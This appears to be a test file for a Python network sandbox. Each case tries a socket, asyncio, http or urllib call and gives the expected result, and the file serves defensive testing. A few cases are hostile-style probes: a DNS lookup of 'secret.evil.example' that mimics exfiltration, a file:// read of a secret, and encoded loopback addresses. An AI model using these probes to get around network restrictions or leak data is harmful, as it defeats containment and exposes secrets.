#### a connection
import socket
socket.create_connection(("127.0.0.1", PORT))
#### a connection by name: OSError
import socket
socket.create_connection(("localhost", PORT))
#### a socket
import socket
socket.socket().connect(("127.0.0.1", PORT))
#### connect_ex: nothing
import socket
print(socket.socket().connect_ex(("127.0.0.1", PORT)))
#### a socket that does not block
import socket
s = socket.socket()
s.setblocking(False)
s.connect(("127.0.0.1", PORT))
#### an address written short: OSError
import socket
socket.socket().connect(("127.1", PORT))
#### an address written as a number: OSError
import socket
socket.socket().connect(("2130706433", PORT))
#### an address for all: OSError
import socket
socket.socket().connect(("0.0.0.0", PORT))
#### an address in another family: OSError (only here)
import socket
socket.socket(socket.AF_INET6).connect(("::ffff:127.0.0.1", PORT))
#### a datagram
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT))
print(MARK)
#### a connected datagram socket
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("127.0.0.1", PORT))
print(MARK)
#### a name is looked up: OSError
import socket
print(socket.getaddrinfo("localhost", 80), MARK)
#### a name with a secret in it is looked up: OSError (only here)
import socket
print(socket.gethostbyname("secret.evil.example"), MARK)
#### a name like an address: OSError (only here)
import socket
print(socket.gethostbyname("127.evil.example"), MARK)
#### a server
import socket
socket.create_server(("127.0.0.1", 0))
print(MARK)
#### a server that binds nothing
import socket
socket.socket().listen()
print(MARK)
#### a server for all
import socket
socket.socket().bind(("", 0))
print(MARK)
#### a raw socket (only here)
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW)
print(MARK)
#### a Unix socket is reached
import socket
socket.socket(socket.AF_UNIX).connect(ROOT + "/socket")
print(MARK)
#### a Unix socket is made
import socket
socket.socket(socket.AF_UNIX).bind(ROOT + "/new.socket")
#### an abstract Unix socket: ValueError (only here)
import socket
socket.socket(socket.AF_UNIX).connect("\0hidden")
print(MARK)
#### asyncio connects
import asyncio
asyncio.run(asyncio.open_connection("127.0.0.1", PORT))
#### asyncio serves
import asyncio
asyncio.run(asyncio.start_server(lambda r, w: None, "127.0.0.1", 0))
print(MARK)
#### asyncio reaches a Unix socket
import asyncio
asyncio.run(asyncio.open_unix_connection(ROOT + "/socket"))
print(MARK)
#### asyncio serves a Unix socket
import asyncio
asyncio.run(asyncio.start_unix_server(lambda r, w: None, ROOT + "/new.socket"))
#### asyncio's sock_connect
import asyncio, socket
async def main():
    s = socket.socket()
    s.setblocking(False)
    await asyncio.get_running_loop().sock_connect(s, ("127.0.0.1", PORT))
asyncio.run(main())
#### http
import http.client
http.client.HTTPConnection("127.0.0.1", PORT).request("GET", "/")
#### urllib: URLError
import urllib.request
urllib.request.urlopen(f"http://127.0.0.1:{PORT}/")
#### urllib and a file: URLError (only here)
import urllib.request
print(urllib.request.urlopen("file://" + SECRET).read())
#### socketserver
import socketserver
socketserver.TCPServer(("127.0.0.1", 0), socketserver.BaseRequestHandler)
print(MARK)
#### the module below
import _socket
_socket.socket().connect(("127.0.0.1", PORT))
#### the module below asyncio
import asyncio, _asyncio
async def main():
    await _asyncio.connect(("127.0.0.1", PORT), None)
asyncio.run(main())
#### the module below encryption
import _tls
_tls.connect("127.0.0.1", PORT, 1)
